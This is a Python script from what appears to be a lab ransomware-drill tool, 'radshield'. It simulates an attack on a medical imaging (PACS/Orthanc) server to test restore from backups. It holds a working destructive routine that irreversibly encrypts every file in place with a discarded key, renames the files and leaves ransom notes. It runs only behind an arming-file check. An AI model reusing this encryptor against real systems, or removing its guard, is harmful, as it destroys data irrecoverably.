#!/usr/bin/env python3
"""The drill's simulated ransomware, for the lab's PACS only (standard library; run inside the
container by `radshield drill ransomware`, never by hand).

It refuses to run unless the drill armed this host for this run: ARMED_FILE must exist and
hold the drill id given with --drill-id (the drill writes it through `podman exec` into a
container labelled as the lab's, right before the attack, and removes it after). Then, like an
encryptor: every file under --storage is rewritten in place with a keystream of a random key
(SHAKE-256; the key is never written anywhere and is dropped at exit: the data is gone, as in a
real attack), renamed to *.radlocked, and a ransom note is left at the top of the storage and
in /root. Prints one JSON line: first_encrypted_at, last_encrypted_at, files, bytes.
"""

from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import json
import os
import sys
import time
from pathlib import Path

ARMED_FILE = Path("/run/radshield-drill-armed")
SUFFIX = ".radlocked"
NOTE_NAME = "README-RESTORE-YOUR-FILES.txt"
NOTE = (
    "radshield lab drill: this is a SIMULATED ransom note.\n"
    "Your imaging files were encrypted by the drill's simulated attacker (drill id {drill}).\n"
    "Nothing to pay: the practice restores from its immutable backup and its standby.\n"
)


def _now() -> str:
    return dt.datetime.now(dt.UTC).isoformat(timespec="microseconds")


def _encrypt(path: Path, key: bytes) -> int:
    data = path.read_bytes()
    stream = hashlib.shake_256(key + str(path).encode()).digest(len(data)) if data else b""
    with path.open("r+b") as fh:  # in place, as most encryptors do, then renamed
        # XOR as two big integers: one C loop, not one Python step a byte
        mixed = int.from_bytes(data, "little") ^ int.from_bytes(stream, "little")
        fh.write(mixed.to_bytes(len(data), "little"))
        fh.flush()
        os.fsync(fh.fileno())
    path.rename(path.with_name(path.name + SUFFIX))
    return len(data)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="radshield-drill-attacker", description=__doc__.split("\n")[0]
    )
    ap.add_argument("--drill-id", required=True)
    ap.add_argument("--storage", required=True, type=Path, help="Orthanc's StorageDirectory")
    ap.add_argument("--rate", type=float, default=0, help="files per second (0: as fast as it can)")
    args = ap.parse_args(argv)
    try:
        armed = ARMED_FILE.read_text().strip()
    except OSError:
        armed = ""
    if not args.drill_id or armed != args.drill_id:
        print(f"radshield-drill-attacker: refused: {ARMED_FILE} does not arm drill {args.drill_id!r}"
              " (only `radshield drill ransomware` arms a lab host)", file=sys.stderr)  # fmt: skip
        return 2
    if not args.storage.is_dir():
        print(f"radshield-drill-attacker: refused: --storage {args.storage} is not a directory",
              file=sys.stderr)  # fmt: skip
        return 2
    key = os.urandom(32)
    first = last = None
    files = size = 0
    for d, _, names in os.walk(args.storage):
        for name in sorted(names):
            p = Path(d) / name
            if name.endswith(SUFFIX) or not p.is_file() or p.is_symlink():
                continue
            first = first or _now()  # before the first byte is touched
            size += _encrypt(p, key)
            files += 1
            last = _now()
            if args.rate > 0:
                time.sleep(1 / args.rate)
    del key
    note = NOTE.format(drill=args.drill_id)
    for where in (args.storage, Path("/root")):
        (where / NOTE_NAME).write_text(note)
    print(json.dumps({"first_encrypted_at": first, "last_encrypted_at": last, "files": files,
                      "bytes": size, "note": str(args.storage / NOTE_NAME)}))  # fmt: skip
    return 0


if __name__ == "__main__":
    sys.exit(main())
